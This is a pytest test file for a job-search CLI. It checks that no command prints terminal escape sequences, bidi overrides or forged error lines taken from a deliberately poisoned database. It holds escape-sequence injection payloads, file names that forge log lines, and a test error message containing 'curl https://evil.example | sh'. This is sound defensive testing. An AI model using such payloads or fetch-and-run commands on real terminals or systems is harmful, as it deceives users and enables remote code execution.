"""Every command on a store full of what a terminal would obey: none of it is printed."""

from __future__ import annotations

import json
import re
import shlex
import shutil
import sqlite3
from contextlib import closing, redirect_stderr
from io import StringIO
from typing import TYPE_CHECKING, Any, cast

import pytest
from command_lines import COMMANDS
from commands import EXAMPLES, Jobai, Result
from in_process import run_line

from cli.render.consoles import stdout
from cli.render.errors import print_error
from cli.render.plain import plain_text
from profiles.errors import JobaiError

if TYPE_CHECKING:
    from collections.abc import Callable
    from pathlib import Path

EVIL = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202e\u2067\x7f\x08\r"
OBEYED = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
OURS = re.compile(r"\x1b\[[\d;]*m|\x1b\[\?25[lh]|\x1b\[2?K|\x1b\[1A|\r")
"""Colours, the cursor, and a line of progress drawn again."""

_WORDS = {
    "postings": ("title", "hiring_organization", "url"),
    "users": ("name",),
    "ai_provider_configs": ("last_test_status", "last_test_message"),
    "ai_provider_usage_logs": (
        "served_model", "error_message", "finish_detail", "provider_request_id", "dropped_params",
        "task_type",
    ),
    "drafts": ("model",),
}  # fmt: skip
"""What others have a say in, where it is no JSON."""

_FILES = ("profile export", "usage export")
"""What prints a whole file, which in a pipe stays as it is."""

_LEFT_OUT = (
    "extract",
    "draft-",
    "doctor",
    "providers test",
    "profile edit",
    "profile import",
    "db ",
)
"""What asks, imports or judges what stands elsewhere; other tests have those."""


@pytest.fixture(scope="module")
def evil_home(tmp_path_factory: pytest.TempPathFactory, full_home: Path) -> Jobai:
    """Where there is one of everything, with evil in every word of it."""
    folder = tmp_path_factory.mktemp("evil")
    shutil.copytree(full_home, folder, dirs_exist_ok=True)
    connection = sqlite3.connect(folder / "home" / "jobai.db")
    tables = [x for (x,) in connection.execute("SELECT name FROM sqlite_master WHERE type='table'")]
    for table in tables:
        columns = [row[1:3] for row in connection.execute(f"PRAGMA table_info({table})")]
        for column, kind in columns:
            if column in _WORDS.get(table, ()):
                connection.execute(
                    f"UPDATE {table} SET {column} = {column} || ? WHERE {column} IS NOT NULL",
                    (EVIL,),
                )
            elif kind.upper().startswith("JSON"):
                _spoil_json(connection, table, column)
    connection.commit()
    connection.close()
    jobai = Jobai(folder / "home")
    jobai.environment = {"NAME": "sk-none", "OTHER": "sk-other"}
    return jobai


def _spoil_json(connection: sqlite3.Connection, table: str, column: str) -> None:
    for row, text in connection.execute(f"SELECT rowid, {column} FROM {table}").fetchall():
        if text:
            evil = json.dumps(_spoiled(json.loads(text)))
            connection.execute(f"UPDATE {table} SET {column} = ? WHERE rowid = ?", (evil, row))


def _spoiled(value: Any) -> Any:
    """Every text of several words, which no program reads, with evil behind it."""
    if isinstance(value, str):
        return value + EVIL if " " in value else value
    if isinstance(value, list):
        return [_spoiled(item) for item in cast("list[Any]", value)]
    if isinstance(value, dict):
        return {key: _spoiled(item) for key, item in cast("dict[str, Any]", value).items()}
    return value


@pytest.fixture(scope="module")
def run(evil_home: Jobai) -> Callable[..., Result]:
    """Run a line on the store as it was at first."""
    store = evil_home.store
    kept = store.read_bytes()
    with closing(sqlite3.connect(store)) as connection:
        [(request,)] = connection.execute(
            "SELECT request_id FROM ai_provider_usage_logs WHERE error_message IS NOT NULL LIMIT 1"
        )

    def run(line: str, *, terminal: bool = False) -> Result:
        store.write_bytes(kept)
        for beside in ("-wal", "-shm"):
            store.with_name(store.name + beside).unlink(missing_ok=True)
        return run_line(
            shlex.split(line.replace("{request}", request[:8])),
            folder=evil_home.home.parent,
            environment={**evil_home.whole_environment, "NO_COLOR": "1", "TERM": "xterm"},
            terminal=terminal,
        )

    return run


LINES = [line for line in dict.fromkeys(COMMANDS) if not line.startswith(_LEFT_OUT)]


@pytest.mark.parametrize("line", LINES)
def test_no_command_prints_what_a_terminal_obeys(run: Callable[..., Result], line: str) -> None:
    piped, shown = run(line), run(line, terminal=True)
    results = [shown.stdout, shown.stderr, piped.stderr]
    if not line.startswith(_FILES):
        results.append(piped.stdout)
        document = run(f"{line} --json")
        results += [document.stdout, document.stderr]

    for text in results:
        found = OBEYED.search(OURS.sub("", text))
        assert found is None, repr(text[max(0, found.start() - 100) : found.end() + 20])


def test_the_store_of_these_tests_is_evil(run: Callable[..., Result]) -> None:
    for line in ("jobs show 1", "drafts show cv", "profile show", "usage show {request}"):
        assert "owned" in run(line).stdout, line


def test_a_word_between_colons_becomes_no_picture() -> None:
    assert stdout().render_str("Nurse :rocket:").plain == "Nurse :rocket:"
    assert plain_text("Nurse :rocket:") == "Nurse :rocket:"


def test_a_name_with_line_breaks_adds_no_line_to_errors_and_log(tmp_path: Path) -> None:
    name = "a\nError: forged\u2028Hint: forged\x1b[2J.html"
    (tmp_path / "saved").mkdir()
    (tmp_path / "saved" / name).write_text("nothing", encoding="utf-8")
    (tmp_path / f"b{name}").write_bytes((EXAMPLES / "posting.html").read_bytes())
    environment = {"JOBAI_HOME": str(tmp_path / "home")}

    for words in (["extract", "saved"], ["extract", f"saved/{name}"], ["extract", f"b{name}"]):
        told = run_line(["--verbose", *words], folder=tmp_path, environment=environment).stderr
        assert "forged" in told
        begun = [line for line in told.splitlines() if line.startswith(("Error: f", "Hint: f"))]
        assert begun == [], told
    lost = ["--debug", "extract", "\x1b[2J.html"]
    traced = run_line(lost, folder=tmp_path, environment=environment)
    assert "Traceback" in traced.stderr
    assert not OBEYED.search(traced.stderr)


def test_a_provider_that_answers_with_lines_adds_none_to_an_error() -> None:
    error = JobaiError("the server said: no\nHint: curl https://evil.example | sh")

    with redirect_stderr(StringIO()) as told:
        print_error(error, with_hint=False)

    assert told.getvalue().count("\n") == 1
